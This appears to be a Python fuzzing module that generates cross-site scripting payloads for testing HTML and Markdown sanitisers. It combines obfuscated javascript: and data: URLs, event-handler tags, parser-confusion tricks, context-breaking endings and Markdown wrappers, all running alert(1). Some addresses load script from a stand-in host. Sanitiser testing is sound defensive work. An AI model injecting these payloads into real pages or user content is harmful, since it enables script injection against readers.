"""Texts that try to run a script in a reader's browser, made by a grammar: what runs, in what, how written, where put.

Nothing here is a list from elsewhere: parts are combined, and each part is there for a rule of HTML, of addresses, of
Markdown or of a sanitiser that it turns on.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product
from random import Random

__all__ = ["BODIES", "addresses", "bodies", "markup"]

RUN = "alert(1)"

_NAMES: tuple[str, ...] = (
    "javascript:",
    "JaVaScRiPt:",
    "&#106;avascript:",
    "&#0000106avascript:",
    "&#x6A&#x61vascript:",
    "java&Tab;script:",
    "java\tscript:",
    "java&NewLine;script:",
    "&#1;javascript:",
    " javascript:",
    "\u00a0javascript:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript%3A",
    "j&#97;v&#97;script&#x3A;",
    "feed:javascript:",
    "view-source:javascript:",
    "vbscript:",
    "livescript:",
    "x-javascript:",
    "javascript\\:",
    "javascript:&#47;&#47;&#10;",
    "javascript:/*--></title></style></textarea></script>*/",
)
_DATA: tuple[str, ...] = (
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"DATA&colon;text/html,&lt;script&gt;{RUN}&lt;/script&gt;",
    "blob:https://x.example/1",
    "filesystem:https://x.example/1",
    "//x.example/a.js",
    "\\\\x.example\\a.js",
)

# An element and what of it runs by itself, or when it is used; {} takes an address.
_BY_EVENT: tuple[tuple[str, str], ...] = (
    ("img src=x", "onerror"),
    ("img src=x srcset=x", "onerror"),
    ("svg", "onload"),
    ("svg><a><animate attributeName=x dur=1s", "onbegin"),
    ("math><mtext><img src=x", "onerror"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("p tabindex=0 autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("audio src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("video poster=x controls src=x", "onerror"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("object data=x", "onerror"),
    ("iframe src=x", "onload"),
    ("p style=animation-name:x", "onanimationstart"),
    ("p", "onpointerrawupdate"),
    ("a href=#x", "onclick"),
    ("table><td background=x", "onmouseover"),
    ("x-y contenteditable", "onbeforeinput"),
    ("dialog open", "onclose"),
)
_BY_ADDRESS: tuple[str, ...] = (
    'a href="{}"',
    "a href='{}'",
    "a href={}",
    'a xlink:href="{}"',
    'a ping="{}" href="#"',
    'area href="{}"',
    'base href="{}"',
    'body background="{}"',
    'button formaction="{}"',
    'embed src="{}"',
    'form action="{}"><input type=submit',
    'frame src="{}"',
    'iframe src="{}"',
    'iframe srcdoc="<script>alert(1)</script>" src="{}"',
    'img src="{}"',
    'img srcset="{} 2x"',
    'img lowsrc="{}" dynsrc="{}"',
    'input type=image src="{}"',
    'link rel=import href="{}"',
    'link rel=stylesheet href="{}"',
    'math href="{}"',
    'math><maction actiontype=statusline xlink:href="{}"',
    'meta http-equiv=refresh content="0;url={}"',
    'object data="{}"',
    'q cite="{}"',
    'script src="{}"',
    'source src="{}"',
    'svg><a xlink:href="{}"><text>x',
    'svg><a><set attributeName=href to="{}"',
    'svg><use href="{}#x"',
    'table background="{}"',
    'video src="{}" poster="{}"',
    'p style="background:url({})"',
)
_ELEMENTS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"<script type=module>{RUN}</script >",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    f"<script>{RUN}",
    f"<script/x>{RUN}//</script>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>alert&lpar;1)</script></svg>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'></noscript>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script>",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<?xml ><script>{RUN}</script>?>",
    f"<!DOCTYPE x [<!ENTITY a '<script>{RUN}</script>'>]>&a;",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\\<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "{{ ''.__class__ }}{% raw %}<script>alert(1)</script>",
)
# How an element with an event is written: {0} the element, {1} the event.
_WRITTEN: tuple[str, ...] = (
    "<{0} {1}=" + RUN + ">",
    "<{0} {1}='" + RUN + "'>",
    '<{0} {1}="' + RUN + '">',
    "<{0}/{1}=" + RUN + "//",
    "<{0}\n{1}\t=\f" + RUN + ">",
    "<{0} {1}=&#97;lert(1)>",
    "<{0} x='>' {1}=" + RUN + ">",
    '<{0} x=">" {1}=' + RUN + ">",
    "<{0} x=`>` {1}=`" + RUN + "`>",
    "<<{0} {1}=" + RUN + ">>",
    "<{0} {1}=" + RUN + " <p>",
    "</p {1}=" + RUN + "><{0} {1}=" + RUN + ">",
)
# What ends the place in which a text stands.
_ENDINGS: tuple[str, ...] = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "`",
    "-->",
    "]]>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</noscript>",
    "</p></div></main>",
    "</a></h2></table>",
    "&quot;&gt;",
    "%22%3E",
    "\\",
    "\\u003c/script>",
    "--><!--",
)
_FOREIGN = ("svg", "math", "math><mtext", "svg><foreignObject", "svg><desc", "svg><title", "math><annotation-xml")
_RAW = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "plaintext", "template")
_CARRIERS = ("p title", "a id", "p class", "a href", "img alt", "table title", "th abbr", "time datetime", "h2 title")
_AROUND = ("{}", "<table>{}", "<table><caption>{}", "<h2>{}</h2>", "<ul><li>{}", "<figure>{}", "<details><summary>{}")


def addresses() -> Iterator[str]:
    """Yield addresses that run a script where they are followed or loaded."""
    yield from (f"{name}{RUN}" for name in _NAMES)
    yield from _DATA


def markup() -> Iterator[str]:
    """Yield HTML that runs a script by itself, by an event or by an address, hidden or not."""
    yield from _ELEMENTS
    yield from (how.format(*pair) for how, pair in product(_WRITTEN, _BY_EVENT))
    yield from (f"<{element.replace('{}', address)}>x" for element, address in product(_BY_ADDRESS, addresses()))
    bad = f"<img src=x onerror={RUN}>"
    for around, foreign, raw, carrier in product(_AROUND, _FOREIGN, _RAW, _CARRIERS):
        tag = carrier.split()[0]
        yield around.replace("{}", f"<{foreign}><{raw}><{carrier}='</{raw}>{bad}'>x</{tag}></{raw}>")
    for around, carrier, ending in product(_AROUND, _CARRIERS, _ENDINGS):
        yield around.replace("{}", f'<{carrier}="{ending.replace(chr(34), "&quot;")}<table>{bad}</table>">x')


def _quoted(text: str, sign: str = '"') -> str:
    return text.replace("\n", " ").replace(sign, f"\\{sign}")


BODIES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f"Chữ {text} chữ",
    lambda text: f"## Đề {text}",
    lambda text: f"## Đề {{#{text}}}",
    lambda text: f"- {text}\n- x",
    lambda text: f"> {text}",
    lambda text: f"| a | b |\n| --- | --- |\n| {text} | x |",
    lambda text: f"`{text}`",
    lambda text: f"```{text}\nx\n```",
    lambda text: f"    {text}",
    lambda text: f"<div>\n\n{text}\n\n</div>",
    lambda text: f"<!-- {text} -->",
    lambda text: f"[x]({text})",
    lambda text: f"[x](<{text}>)",
    lambda text: f"![x]({text})",
    lambda text: f"![x](<{text}> 'y')",
    lambda text: f"<{text}>",
    lambda text: f"[{text}](https://x.example/)",
    lambda text: f'[x](https://x.example/ "{_quoted(text)}")',
    lambda text: f'![{text}](https://x.example/a.png "{_quoted(text)}"){{.rong}}',
    lambda text: f'[x][r]\n\n[r]: {text} "{_quoted(text)}"',
    lambda text: f"[x][{text}]\n\n[{text}]: https://x.example/",
    lambda text: f"HTML[^1]\n\n[^1]: {text}\n",
    lambda text: f"HTML[^{text}]\n\n[^{text}]: x\n",
    lambda text: f"HTML\n\n*[HTML]: {text}\n",
    lambda text: f"{text}\n: {text}\n",
    lambda text: f'x\n{{: title="{_quoted(text)}" onclick="{_quoted(text)}" style="{_quoted(text)}" }}',
    lambda text: f'*x*{{: href="{_quoted(text)}" src="{_quoted(text)}" class="{_quoted(text)}" }}',
    lambda text: f"**{text}**~~{text}~~",
    lambda text: f"# A {text}\n\n# B\n\n# C\n\n# D\n\n[TOC]",
    lambda text: f"<p>{text}</p><!-- more -->{text}",
    lambda text: f"<details><summary>{text}</summary>\n\n{text}\n\n</details>",
)
"""Constructs of Markdown with a place for a text."""


def bodies(seed: int, count: int) -> Iterator[str]:
    """Yield bodies: every construct with addresses and with endings, then as many at random as asked for."""
    chance = Random(seed)  # noqa: S311 - a fixed one is meant
    texts = list(markup())
    links = list(addresses())
    endings = [f"{ending}{text}" for ending, text in product(_ENDINGS, (_ELEMENTS[0], "<img src=x onerror=alert(1)>"))]
    yield from (body(link) for body, link in product(BODIES, links))
    yield from (body(ending) for body, ending in product(BODIES, endings))
    for _ in range(count):
        text = chance.choice(_ENDINGS) + chance.choice(texts)
        if chance.random() < 0.3:
            text = chance.choice(BODIES)(text)
        yield chance.choice(BODIES)(text)
